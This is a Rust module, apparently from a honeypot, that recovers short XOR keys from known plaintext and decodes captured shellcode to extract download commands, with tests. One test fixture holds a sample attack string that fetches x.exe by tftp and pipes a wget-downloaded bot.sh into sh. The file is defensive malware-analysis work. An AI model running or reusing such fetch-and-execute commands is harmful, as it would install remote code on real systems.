//! The xmatch plugin: XOR key recovery from known plaintext. Shellcode and droppers often
//! carry their commands XOR-encoded with a short key; where a known piece of plaintext (a
//! pattern of `xpattern_file`) is in the data under some key, the key is found from it and
//! the whole data decoded, and the decoded copy is scanned for downloads like the strings of
//! the other decoders (the downloads belong to the real attack). Replaces the C original's
//! htm_xmatch.c (libxmatch).
//!
//! For a pattern P of length n and each key length k from 1 to n/2, the XOR of P with
//! itself shifted by k (`P[i] ^ P[i+k]`) does not depend on the key; where the data shifted
//! the same way shows it, the key is `data ^ P` at that place, cut to its period. A key of
//! zeros is plaintext, not an encoding. The first match counts, as in the C plugin; its
//! decoding is aligned to the match (the C loop could write past the end of its buffer).
//!
//! Bounded: at most [`MAX_PATTERNS`] patterns of at most [`MAX_PATTERN`] bytes, the first
//! [`SCAN_MAX`] bytes of an attack searched, and the search of one attack stops after
//! [`SCAN_TIME`].

use std::fmt;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

/// Patterns read from a file at most.
pub const MAX_PATTERNS: usize = 256;
/// Longest pattern, in bytes.
pub const MAX_PATTERN: usize = 256;
/// Shortest useful pattern: two bytes of key need four of plaintext.
pub const MIN_PATTERN: usize = 2;
/// Bytes of an attack string searched.
pub const SCAN_MAX: usize = 1 << 20;
/// Time the search of one attack string may take.
pub const SCAN_TIME: Duration = Duration::from_millis(500);

/// Why a pattern file cannot be used.
#[derive(Debug)]
pub enum PatternError {
    /// No `xpattern_file` given.
    Missing,
    Read {
        path: PathBuf,
        err: std::io::Error,
    },
    /// A line that is not `\xHH…` (or too long), with its number.
    Line {
        path: PathBuf,
        line: usize,
        why: &'static str,
    },
    Empty {
        path: PathBuf,
    },
    TooMany {
        path: PathBuf,
    },
}

impl fmt::Display for PatternError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            PatternError::Missing => write!(f, "xmatch - xpattern_file is required."),
            PatternError::Read { path, err } => {
                write!(f, "xmatch - Unable to read pattern file {}: {}.", path.display(), crate::sys::strerror(err))
            }
            PatternError::Line { path, line, why } => {
                write!(
                    f,
                    "xmatch - {}:{}: {} (patterns are written \\xHH\\xHH..., # starts a comment).",
                    path.display(),
                    line,
                    why
                )
            }
            PatternError::Empty { path } => write!(f, "xmatch - {}: no pattern.", path.display()),
            PatternError::TooMany { path } => {
                write!(f, "xmatch - {}: more than {} patterns.", path.display(), MAX_PATTERNS)
            }
        }
    }
}

impl std::error::Error for PatternError {}

/// One pattern and, per key length, its shift-XOR signature.
#[derive(Clone, Debug, PartialEq, Eq)]
struct Pattern {
    plain: Vec<u8>,
    /// `diffs[k - 1][i] = plain[i] ^ plain[i + k]`.
    diffs: Vec<Vec<u8>>,
}

/// The patterns of `xpattern_file`.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Patterns {
    patterns: Vec<Pattern>,
}

/// A key found in some data.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Found {
    pub key: Vec<u8>,
    /// Where the known plaintext starts.
    pub offset: usize,
}

fn parse_line(line: &str) -> Result<Vec<u8>, &'static str> {
    let b = line.as_bytes();
    if !b.len().is_multiple_of(4) {
        return Err("not a run of \\xHH");
    }
    let mut out = Vec::with_capacity(b.len() / 4);
    for c in b.chunks(4) {
        if c[0] != b'\\' || c[1] != b'x' {
            return Err("not a run of \\xHH");
        }
        let hex = std::str::from_utf8(&c[2..]).map_err(|_| "not a hex digit")?;
        out.push(u8::from_str_radix(hex, 16).map_err(|_| "not a hex digit")?);
    }
    if out.len() > MAX_PATTERN {
        return Err("pattern longer than 256 bytes");
    }
    if out.len() < MIN_PATTERN {
        return Err("pattern shorter than 2 bytes");
    }
    Ok(out)
}

impl Patterns {
    /// Reads a pattern file: one pattern per line as `\xHH` per byte, lines starting with `#`
    /// are comments; an empty or malformed line is an error, as in the C plugin.
    pub fn load(path: &Path) -> Result<Patterns, PatternError> {
        if path.as_os_str().is_empty() || path.is_dir() {
            return Err(PatternError::Missing);
        }
        let text = std::fs::read_to_string(path).map_err(|err| PatternError::Read { path: path.into(), err })?;
        Patterns::parse(&text, path)
    }

    pub fn parse(text: &str, path: &Path) -> Result<Patterns, PatternError> {
        let mut patterns = Vec::new();
        for (i, line) in text.lines().enumerate() {
            let line = line.trim_end_matches('\r');
            if line.starts_with('#') {
                continue;
            }
            if line.trim().is_empty() {
                return Err(PatternError::Line { path: path.into(), line: i + 1, why: "empty line" });
            }
            let plain =
                parse_line(line.trim()).map_err(|why| PatternError::Line { path: path.into(), line: i + 1, why })?;
            if patterns.len() == MAX_PATTERNS {
                return Err(PatternError::TooMany { path: path.into() });
            }
            let diffs = (1..=plain.len() / 2)
                .map(|k| (0..plain.len() - k).map(|i| plain[i] ^ plain[i + k]).collect())
                .collect();
            patterns.push(Pattern { plain, diffs });
        }
        if patterns.is_empty() {
            return Err(PatternError::Empty { path: path.into() });
        }
        Ok(Patterns { patterns })
    }

    /// The first key under which a pattern is in `data`.
    pub fn find(&self, data: &[u8]) -> Option<Found> {
        let data = &data[..data.len().min(SCAN_MAX)];
        let end = Instant::now() + SCAN_TIME;
        for p in &self.patterns {
            for (ki, diff) in p.diffs.iter().enumerate() {
                if Instant::now() >= end {
                    return None;
                }
                let k = ki + 1;
                let n = p.plain.len();
                if data.len() < n {
                    break;
                }
                for j in 0..=data.len() - n {
                    if (0..diff.len()).all(|i| data[j + i] ^ data[j + i + k] == diff[i]) {
                        let raw: Vec<u8> = (0..k).map(|i| data[j + i] ^ p.plain[i]).collect();
                        if raw.iter().all(|&b| b == 0) {
                            continue;
                        }
                        return Some(Found { key: shortest_period(&raw), offset: j });
                    }
                }
            }
        }
        None
    }

    /// `data` decoded with the first key found, or `None`.
    pub fn decode(&self, data: &[u8]) -> Option<(Found, Vec<u8>)> {
        let f = self.find(data)?;
        let k = f.key.len();
        let decoded = data.iter().enumerate().map(|(m, &b)| b ^ f.key[(m + k - f.offset % k) % k]).collect();
        Some((f, decoded))
    }
}

/// `key` cut to its shortest period (`ABAB` → `AB`).
fn shortest_period(key: &[u8]) -> Vec<u8> {
    (1..=key.len())
        .find(|&p| key.len().is_multiple_of(p) && key.chunks(p).all(|c| c == &key[..p]))
        .map_or_else(|| key.to_vec(), |p| key[..p].to_vec())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn pats(text: &str) -> Patterns {
        Patterns::parse(text, Path::new("p.txt")).unwrap()
    }

    fn xor(data: &[u8], key: &[u8], phase: usize) -> Vec<u8> {
        data.iter().enumerate().map(|(i, b)| b ^ key[(i + phase) % key.len()]).collect()
    }

    #[test]
    fn pattern_files() {
        let p = pats("# comment\n\\x68\\x74\\x74\\x70\\x3a\\x2f\\x2f\n\\x77\\x67\\x65\\x74\\x20\n");
        assert_eq!(p.patterns.len(), 2);
        assert_eq!(p.patterns[0].plain, b"http://");
        for (text, line) in
            [("\\x41\\x4\n", 1), ("\\x41\\x42\n\n\\x41\\x42\n", 2), ("zz\n", 1), ("\\xZZ\\x41\n", 1), ("\\x41\n", 1)]
        {
            match Patterns::parse(text, Path::new("p.txt")) {
                Err(PatternError::Line { line: l, .. }) => assert_eq!(l, line, "{text:?}"),
                other => panic!("{text:?}: {other:?}"),
            }
        }
        assert!(matches!(Patterns::parse("# only comments\n", Path::new("p")), Err(PatternError::Empty { .. })));
        let many = "\\x41\\x42\n".repeat(MAX_PATTERNS + 1);
        assert!(matches!(Patterns::parse(&many, Path::new("p")), Err(PatternError::TooMany { .. })));
    }

    #[test]
    fn keys_are_recovered_and_the_data_decoded() {
        let p = pats("\\x68\\x74\\x74\\x70\\x3a\\x2f\\x2f\n");
        let plain = b"\x90\x90junk;cmd /c tftp -i 10.0.0.1 GET x.exe & wget http://198.51.100.7/bot.sh -O- | sh";
        for key in [&b"\x55"[..], b"\x13\x37", b"\xde\xad\xbe"] {
            for phase in 0..key.len() {
                let enc = xor(plain, key, phase);
                let (f, dec) = p.decode(&enc).unwrap_or_else(|| panic!("{key:?} {phase}"));
                assert_eq!(dec, plain.to_vec(), "{key:?} {phase}");
                assert_eq!(f.key.len(), key.len());
            }
        }
        // Plaintext (a zero key) and data without the pattern give nothing.
        assert_eq!(p.find(plain), None);
        assert_eq!(p.find(&xor(b"nothing to see here", b"\x42", 0)), None);
        assert_eq!(p.find(b""), None);
        assert_eq!(shortest_period(b"ABAB"), b"AB");
        assert_eq!(shortest_period(b"ABA"), b"ABA");
    }
}
